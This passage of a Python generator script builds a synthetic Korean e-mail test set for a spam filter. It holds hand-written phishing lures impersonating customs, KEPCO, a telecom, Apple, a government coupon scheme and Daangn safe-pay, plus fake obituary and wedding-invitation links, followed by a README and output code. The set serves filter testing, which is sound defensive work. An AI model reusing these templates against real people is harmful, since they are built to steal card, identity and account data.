  frm=('', 'bugo.notice88@gmail.com'), to=v(2), prov='gmail',
  subj='[부고] 삼가 고인의 명복을 빕니다',
  text='''[부고]
故 김정수님께서 별세하셨기에 삼가 알려드립니다.

장례식장 및 발인 일정 안내
https://bugo-info.xyz/m/view?id=88213

마음으로 위로해 주시기 바랍니다.
''')

M('phish', '모바일 청첩장 사칭 피싱 - 결혼 소식 메일의 청첩장 링크가 APK 다운로드 (UTF-8, naver 계정 악용)',
  frm=('이수민', 'sumin.lee_wedding@naver.com'), to=v(6), prov='naver',
  subj='저희 결혼합니다 💐 모바일 청첩장 보내드려요',
  text='''안녕하세요 :)
바쁘신 와중에 메일로 연락드려 죄송해요.
저희 드디어 결혼합니다!

모바일 청첩장 확인 부탁드려요
https://wedding-card-m.top/invite/sumin1212

꼭 오셔서 축복해 주세요 감사합니다!
''')

M('phish', '관세청 UNI-PASS 사칭 해외직구 개인통관고유부호 도용 확인 요청, 주민번호·계좌 입력 (ks_c, massmail)',
  frm=('관세청 UNI-PASS', 'unipass@unipass-customs-kr.shop'), to=v(7), prov='massmail', cs='ks_c_5601-1987',
  subj='[관세청] 귀하의 개인통관고유부호가 타인에 의해 도용된 정황이 있습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;line-height:1.8;">
<p><b>관세청 UNI-PASS 개인통관고유부호 도용 의심 안내</b></p>
<p>최근 3개월간 귀하의 개인통관고유부호로 <b>17건</b>의 해외직구 통관이 진행되었습니다.<br>
본인이 주문하지 않은 건이 있다면 도용 신고 후 부호를 재발급 받으셔야 합니다.</p>
<p>도용 신고를 하지 않으면 향후 밀수 혐의로 조사를 받으실 수 있습니다.</p>
<p><a href="https://unipass-customs-kr.shop/csp/persIndex.do">통관 내역 확인 및 도용 신고</a></p>
</body></html>
''')

M('phish', '한국전력 사칭 전기요금 과오납 환급 안내, 카드 정보 입력 (EUC-KR 8bit)',
  frm=('한국전력공사', 'refund@kepco-refund24.top'), to=v(8), prov='kit', cs='euc-kr', cte='8bit',
  subj='[한국전력] 전기요금 이중납부 확인 - 환급금 52,340원',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;">
<p style="color:#e60012;"><b>KEPCO 전기요금 환급 안내</b></p>
<p>고객님의 10월 전기요금이 자동이체와 카드결제로 <b>이중 납부</b>된 것이 확인되었습니다.</p>
<p>환급 금액 : 52,340원<br>환급 방법 : 결제하신 카드로 승인 취소</p>
<p>환급 신청 시 결제 카드 확인이 필요합니다.<br><a href="https://kepco-refund24.top/refund/card.php">환급 신청하기</a></p>
</body></html>
''')

M('phish', '통신사 사칭 "유심 정보 유출 피해 보상 및 무료 유심 교체" - 개인정보·인증번호 수집 (UTF-8, SES형 발송으로 DKIM 통과)',
  frm=('T world 고객보호센터', 'care@tworld-usim-care.xyz'), to=v(11), prov='ses',
  subj='[T world] 유심 정보 유출 피해 보상금 및 무료 유심 교체 신청 안내',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;line-height:1.7;">
<div style="max-width:560px;margin:0 auto;">
<p style="color:#3617ce;font-size:18px;"><b>고객 보호 안내</b></p>
<p>고객님, 유심 정보 유출 사고와 관련하여 피해 보상 대상자로 확인되셨습니다.</p>
<ul><li>피해 보상금: 50,000원 (통신요금 차감 또는 계좌 입금)</li><li>무료 유심 교체 + 유심보호서비스 자동 가입</li></ul>
<p>신청 기한: 2026년 11월 30일</p>
<p><a href="https://tworld-usim-care.xyz/apply?ch=mail" style="background:#3617ce;color:#fff;padding:12px 24px;text-decoration:none;">보상 신청하기</a></p>
<p style="font-size:12px;color:#888;">신청 시 본인 확인을 위해 휴대폰 인증 및 신분증 촬영이 필요합니다.</p>
</div></body></html>
''')

M('phish', 'Apple ID 사칭 결제 영수증 - 구매하지 않은 구독 취소를 미끼로 계정·카드 정보 수집 (한국어)',
  frm=('Apple', 'no_reply@apple-id-billing-kr.com'), to=v(3), prov='kit', dkim=True,
  subj='Apple 영수증 - 주문번호 MR7K2QX9T (₩89,000)',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:-apple-system,sans-serif;font-size:13px;">
<div style="max-width:620px;margin:0 auto;">
<p style="font-size:26px;">영수증</p>
<p>주문 번호: MR7K2QX9T &nbsp; 청구일: 2026. 11. 11.</p>
<hr><p><b>Final Cut Pro</b> (1년 구독)<br>₩89,000</p><hr>
<p>이 구매를 승인하지 않으셨다면 24시간 내에 아래 링크에서 구독을 취소하고 환불을 요청하세요.</p>
<p><a href="https://apple-id-billing-kr.com/reportaproblem/cancel?o=MR7K2QX9T">구독 취소 및 환불 요청</a></p>
<p style="font-size:11px;color:#888;">Apple 계정 | 지원 | 개인정보 처리방침</p>
</div></body></html>
''')

M('phish', '정부 "민생 소비쿠폰" 신청 사칭 - 카드사 선택 후 카드번호·비밀번호 입력 유도 (EUC-KR, 정책 시즌 편승)',
  frm=('행정안전부 소비쿠폰 지원단', 'coupon@gov-coupon-apply.top'), to=v(4), prov='kit', cs='euc-kr', cte='quoted-printable',
  subj='[행정안전부] 2차 민생 소비쿠폰 미신청자 대상 추가 신청 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body style="font-family:돋움;font-size:13px;line-height:1.8;">
<p><b>2차 민생 소비쿠폰 추가 신청 안내</b></p>
<p>귀하는 2차 민생 소비쿠폰(1인 100,000원) 지급 대상자이나 아직 신청하지 않으셨습니다.</p>
<p>추가 신청 기한 : 2026년 11월 28일(토)<br>지급 방법 : 신용·체크카드 포인트 충전</p>
<p><a href="http://gov-coupon-apply.top/apply/card.html">소비쿠폰 신청하기 (카드사 선택)</a></p>
<p style="font-size:11px;color:#888;">기한 내 미신청 시 지원금은 자동 소멸됩니다.</p>
</body></html>
''')

M('phish', '중고거래 "안전결제" 사칭 - 구매자가 보낸 가짜 결제완료 메일로 판매자에게 정산 계좌·카드 인증 요구 (UTF-8)',
  frm=('당근 안전결제', 'safepay@daangn-safepay.shop'), to=v(4), prov='kit', cs='UTF-8', cte='base64',
  subj='[안전결제] 구매자가 유모차 대금 180,000원을 결제했습니다 - 판매자 정산 등록 필요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:460px;margin:0 auto;padding:20px;">
<p style="color:#ff6f0f;font-weight:bold;">안전결제</p>
<p>구매자 <b>초코맘</b>님이 "유모차" 대금 <b>180,000원</b>을 안전결제로 결제했어요.</p>
<p>판매자 정산 계좌를 등록하고 카드 본인인증을 완료하면 대금이 즉시 지급됩니다.<br>(판매자 보호를 위해 인증 수수료 1원이 결제 후 취소됩니다)</p>
<p><a href="https://daangn-safepay.shop/settle?id=CM18">정산 받기</a></p>
</div></body></html>
''')


# ---------------------------------------------------------------------------
# output
# ---------------------------------------------------------------------------
README = """# Korean e-mail measurement set (ko-fresh7)

Provenance
----------
* Entirely synthetic.  Every message was written by hand for this set and is
  rendered by `generate.py` (Python 3 standard library only, fixed seeds,
  no clock reads, no network access).
* Written 2026-11-28 by a writer who had not seen the spam filter under test,
  its source code, its training data or its tests.
* Purpose: **measurement only**.  Do not use these messages for training or
  tuning the filter, otherwise the measurement stops being independent.

Layout
------
* `ham/NNNN.eml`   - 120 legitimate messages (deliberately hard cases)
* `spam/NNNN.eml`  - 40 unsolicited bulk / commercial messages
* `phish/NNNN.eml` - 40 phishing / fraud messages
* `MANIFEST.tsv`   - file, label, one-line scenario description
* RFC 5322, CRLF line endings, one message per file.

Notes
-----
* Real companies and public bodies appear, with their real domains, only in
  ham.  All spam/phishing domains, URLs, phone numbers, account numbers,
  KakaoTalk/Telegram IDs and addresses are invented.  Recipients are at
  invented domains (`*.example`, `*.test`).
* All IP addresses are from 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24.
* DKIM signatures, ARC/Authentication-Results and Received chains imitate the
  style of the sending providers but are not cryptographically valid.
* Attachments (PDF, HWP/HWPX, XLSX, PNG, ZIP, HTML, ICS) are small generated
  stand-ins; the executable-looking files inside phishing ZIPs are inert stubs.
* Regenerate with `python3 generate.py` (output is byte-identical).
"""


def main():
    counts = {}
    legacy = 0
    stats = {'cs': {}, 'fmt': {}}
    manifest = ['file\tlabel\tdescription']
    for kind in ('ham', 'spam', 'phish'):
        d = os.path.join(OUT, kind)
        if os.path.isdir(d):
            shutil.rmtree(d)
        os.makedirs(d)
        for i, s in enumerate(MESSAGES[kind], 1):
            data, label, fmt = build(kind, i, s)
            fn = '%s/%04d.eml' % (kind, i)
            with open(os.path.join(OUT, fn), 'wb') as f:
                f.write(data)
            manifest.append('%s\t%s\t%s' % (fn, kind, s['desc'].replace('\t', ' ')))
            stats['cs'][label.lower()] = stats['cs'].get(label.lower(), 0) + 1
            if label.lower() != 'utf-8':
                legacy += 1
        counts[kind] = len(MESSAGES[kind])
    with open(os.path.join(OUT, 'MANIFEST.tsv'), 'w', encoding='utf-8', newline='\n') as f:
        f.write('\n'.join(manifest) + '\n')
    with open(os.path.join(OUT, 'README.md'), 'w', encoding='utf-8', newline='\n') as f:
        f.write(README)
    print('counts', counts, 'charsets', stats['cs'], 'legacy', legacy)


if __name__ == '__main__':
    main()
